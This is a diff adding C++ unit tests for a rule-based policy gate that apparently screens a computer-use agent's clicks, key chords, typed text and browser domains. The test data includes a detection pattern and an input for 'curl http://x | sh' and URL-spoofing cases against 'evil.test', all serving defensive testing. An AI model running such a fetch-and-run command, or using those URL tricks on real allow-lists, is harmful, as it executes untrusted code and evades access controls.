@@ -1,0 +1,177 @@
+// SPDX-License-Identifier: Apache-2.0
+// The gate, rule by rule, without a screen and without a model.
+#include "actions/parse.h"
+#include "agent/policy_gate.h"
+
+#include <gtest/gtest.h>
+
+namespace handeye {
+namespace {
+
+constexpr Size kScreen{800, 600};
+
+WindowInfo window(const std::string& name, const std::string& url = "") {
+    WindowInfo info;
+    info.id = 7;
+    info.title_utf8 = name + " - window";
+    info.window_class = name;
+    info.app = name;
+    info.url = url;
+    info.is_focused = true;
+    return info;
+}
+
+ActionFacts facts(const std::string& action_json, std::optional<std::vector<WindowInfo>> windows = {}) {
+    const auto action = parse_action(action_json);
+    EXPECT_TRUE(action) << action.error().message;
+    const auto plan = resolve(*action, {kScreen, kScreen, {}});
+    EXPECT_TRUE(plan) << plan.error().message;
+    ActionFacts out = facts_of(*action, *plan, WallTime{});
+    out.windows = std::move(windows);
+    return out;
+}
+
+PolicyGate gate(const std::string& policy_json) {
+    const auto policy = policy_from_json(policy_json);
+    EXPECT_TRUE(policy) << policy.error().message;
+    auto made = PolicyGate::create(*policy);
+    EXPECT_TRUE(made);
+    return *std::move(made);
+}
+
+Gate decide(const std::string& policy_json, const ActionFacts& of) { return gate(policy_json).decide(of).gate; }
+
+std::string one(const std::string& rule, const std::string& otherwise = "allow") {
+    return R"({"rules":[{"name":"r",)" + rule + R"(}],"otherwise":")" + otherwise + R"("})";
+}
+
+const char* const kClick = R"({"verb":"click","x":100,"y":100,"units":"pixels"})";
+
+TEST(PolicyGate, EveryPointOfADragMustLieInAnAllowedRegion) {
+    const std::string inside = one(R"("effect":"allow","region":{"x":0,"y":0,"width":400,"height":600})", "deny");
+    const auto to = [&](int x) { return facts(R"({"verb":"drag","x":10,"y":10,"to_x":)" + std::to_string(x) + R"(,"to_y":20,"units":"pixels"})"); };
+    EXPECT_EQ(decide(inside, to(300)), Gate::Allow);
+    EXPECT_EQ(decide(inside, to(500)), Gate::Deny);
+    const std::string outside = one(R"("effect":"deny","region":{"x":0,"y":0,"width":400,"height":600,"outside":true})");
+    EXPECT_EQ(decide(outside, to(300)), Gate::Allow);
+    EXPECT_EQ(decide(outside, to(500)), Gate::Deny);
+}
+
+TEST(PolicyGate, WindowsAreMatchedByClassTitleAndProgram) {
+    EXPECT_EQ(decide(one(R"("effect":"deny","window_classes":["XTerm"])"), facts(kClick, {{window("xterm")}})), Gate::Deny);
+    EXPECT_EQ(decide(one(R"("effect":"deny","window_classes":["XTerm"])"), facts(kClick, {{window("gedit")}})), Gate::Allow);
+    EXPECT_EQ(decide(one(R"("effect":"allow","titles":["*gedit*"])", "deny"), facts(kClick, {{window("gedit")}})), Gate::Allow);
+    EXPECT_EQ(decide(one(R"("effect":"allow","apps":["ged*"])", "deny"), facts(kClick, {{window("gedit"), window("xterm")}})), Gate::Deny);
+}
+
+TEST(PolicyGate, WhatIsUnknownIsNeverAllowedAndAlwaysDenied) {
+    EXPECT_EQ(decide(one(R"("effect":"allow","window_classes":["gedit"])", "deny"), facts(kClick)), Gate::Deny);
+    EXPECT_EQ(decide(one(R"("effect":"deny","window_classes":["gedit"])"), facts(kClick)), Gate::Deny);
+    EXPECT_EQ(decide(one(R"("effect":"allow","domains":["example.org"])", "deny"), facts(kClick, {{window("browser")}})), Gate::Deny);
+    EXPECT_EQ(decide(one(R"("effect":"ask","domains":["example.org"])"), facts(kClick, {{window("browser")}})), Gate::Ask);
+}
+
+TEST(PolicyGate, ADomainIsTheHostAndNothingThatLooksLikeIt) {
+    const std::string rule = one(R"("effect":"allow","domains":["example.org","*.example.org"])", "deny");
+    const auto at = [&](const std::string& url) { return decide(rule, facts(kClick, {{window("browser", url)}})); };
+    EXPECT_EQ(at("https://example.org/x"), Gate::Allow);
+    EXPECT_EQ(at("https://WWW.example.org:8443/"), Gate::Allow);
+    EXPECT_EQ(at("https://example.org.evil.test/"), Gate::Deny);
+    EXPECT_EQ(at("https://example.org@evil.test/"), Gate::Deny);
+    EXPECT_EQ(at("https://evil.test/?https://example.org/"), Gate::Deny);
+    EXPECT_EQ(at("https://evil.test\\@example.org/"), Gate::Deny);
+}
+
+TEST(PolicyGate, TextPatternsAreFoundInWhatIsTyped) {
+    const std::string rule = one(R"("effect":"deny","text":["curl.*\\|\\s*sh"])");
+    EXPECT_EQ(decide(rule, facts(R"({"verb":"type","text":"curl http://x | sh"})")), Gate::Deny);
+    EXPECT_EQ(decide(rule, facts(R"({"verb":"type","text":"curls in her hair"})")), Gate::Allow);
+}
+
+TEST(PolicyGate, APatternThatExplodesDeniesSoon) {
+    const std::string text = std::string(5000, 'a') + "!";
+    EXPECT_EQ(decide(one(R"("effect":"deny","text":["^(a+)+$"])"), facts(R"({"verb":"type","text":")" + text + R"("})")), Gate::Deny);
+}
+
+TEST(PolicyGate, ChordsAreComparedWhateverTheyAreCalled) {
+    const std::string rule = one(R"("effect":"deny","keys":["ctrl+alt+*","super","return"])");
+    for (const char* const denied : {R"({"verb":"key","keys":"ctrl+alt+F2"})", R"({"verb":"key","keys":"Alt+Control+delete"})",
+                                     R"({"verb":"key","keys":"cmd"})", R"({"verb":"key","keys":"enter"})",
+                                     R"({"verb":"type","text":"a\nb"})"}) {
+        EXPECT_EQ(decide(rule, facts(denied)), Gate::Deny) << denied;
+    }
+    EXPECT_EQ(decide(rule, facts(R"({"verb":"key","keys":"ctrl+c"})")), Gate::Allow);
+    EXPECT_EQ(decide(rule, facts(R"({"verb":"type","text":"ab"})")), Gate::Allow);
+}
+
+TEST(PolicyGate, TheTimeOfDayMayGoOverMidnight) {
+    const std::string rule = one(R"("effect":"deny","time":"22:00-06:00")");
+    const auto at = [&](int minute) {
+        ActionFacts of = facts(kClick);
+        of.minute_of_day = minute;
+        return decide(rule, of);
+    };
+    EXPECT_EQ(at(23 * 60), Gate::Deny);
+    EXPECT_EQ(at(5 * 60 + 59), Gate::Deny);
+    EXPECT_EQ(at(6 * 60), Gate::Allow);
+}
+
+TEST(PolicyGate, ARuleMatchesItsCountAndNoMore) {
+    PolicyGate counted = gate(one(R"("effect":"allow","max_count":2)", "deny"));
+    EXPECT_EQ(counted.explain(facts(kClick)).gate, Gate::Allow);
+    EXPECT_EQ(counted.decide(facts(kClick)).gate, Gate::Allow);
+    EXPECT_EQ(counted.decide(facts(kClick)).gate, Gate::Allow);
+    EXPECT_EQ(counted.decide(facts(kClick)).gate, Gate::Deny);
+}
+
+TEST(PolicyGate, TheFirstRuleThatMatchesDecides) {
+    const std::string rules = R"({"rules":[{"name":"a","effect":"ask","verbs":["click"]},{"name":"b","effect":"deny"}]})";
+    EXPECT_EQ(decide(rules, facts(kClick)), Gate::Ask);
+    EXPECT_EQ(gate(rules).decide(facts(R"({"verb":"type","text":"x"})")).rule, "rule 2: b");
+}
+
+TEST(PolicyGate, OfNestedPoliciesTheStrictestCounts) {
+    Policy outer;
+    outer.deny_verbs = {"click"};
+    Policy inner;
+    inner.rules.push_back({.name = "all", .effect = Effect::Allow});
+    auto both = PolicyGate::create(narrowed(outer, inner));
+    ASSERT_TRUE(both);
+    EXPECT_EQ(both->decide(facts(kClick)).gate, Gate::Deny);
+}
+
+class WrongPolicy : public testing::TestWithParam<std::pair<const char*, const char*>> {};
+
+TEST_P(WrongPolicy, IsRefusedNamingRuleAndField) {
+    const auto policy = policy_from_json(GetParam().first);
+    ASSERT_FALSE(policy);
+    EXPECT_NE(policy.error().message.find(GetParam().second), std::string::npos) << policy.error().message;
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Policies, WrongPolicy,
+    testing::Values(std::pair{R"({"allow":[]})", "\"allow\""}, std::pair{R"({"otherwise":"maybe"})", "otherwise"},
+                    std::pair{R"({"deny_verbs":["teleport"]})", "deny_verbs"},
+                    std::pair{R"({"rules":[{"name":"a"}]})", "rule 1 (\"a\").effect"},
+                    std::pair{R"({"rules":[{"effect":"deny"}]})", ".name"},
+                    std::pair{R"({"rules":[{"name":"a","effect":"deny","verbs":["fly"]}]})", "rule 1 (\"a\").verbs"},
+                    std::pair{R"({"rules":[{"name":"a","effect":"deny","text":["("]}]})", "rule 1 (\"a\").text"},
+                    std::pair{R"({"rules":[{"name":"a","effect":"deny","keys":["ctrl+nokey"]}]})", "rule 1 (\"a\").keys"},
+                    std::pair{R"({"rules":[{"name":"a","effect":"deny","time":"8-9"}]})", "rule 1 (\"a\").time"},
+                    std::pair{R"({"rules":[{"name":"a","effect":"deny","region":{"x":1,"y":1,"width":0,"height":1}}]})", ".region"},
+                    std::pair{R"({"rules":[{"name":"a","effect":"deny","max_count":2}]})", ".max_count"},
+                    std::pair{R"({"rules":[{"name":"a","effect":"deny","domains":["http://x"]}]})", ".domains"}));
+
+TEST(PolicyJson, IsReadAsItWasWritten) {
+    const std::string text = R"({"allow_verbs":["click"],"rules":[{"name":"a","effect":"ask","apps":["x"],"keys":["ctrl+*"],"max_count":3,)"
+                             R"("region":{"x":1,"y":2,"width":3,"height":4,"outside":true},"time":"08:00-18:30"}],"otherwise":"deny"})";
+    const auto once = policy_from_json(text);
+    ASSERT_TRUE(once) << once.error().message;
+    const auto twice = policy_from_json(policy_to_json(*once));
+    ASSERT_TRUE(twice) << twice.error().message;
+    EXPECT_EQ(policy_to_json(*once), policy_to_json(*twice));
+    EXPECT_EQ(twice->rules[0].time->to_minute, 18 * 60 + 30);
+}
+
+} // namespace
+} // namespace handeye
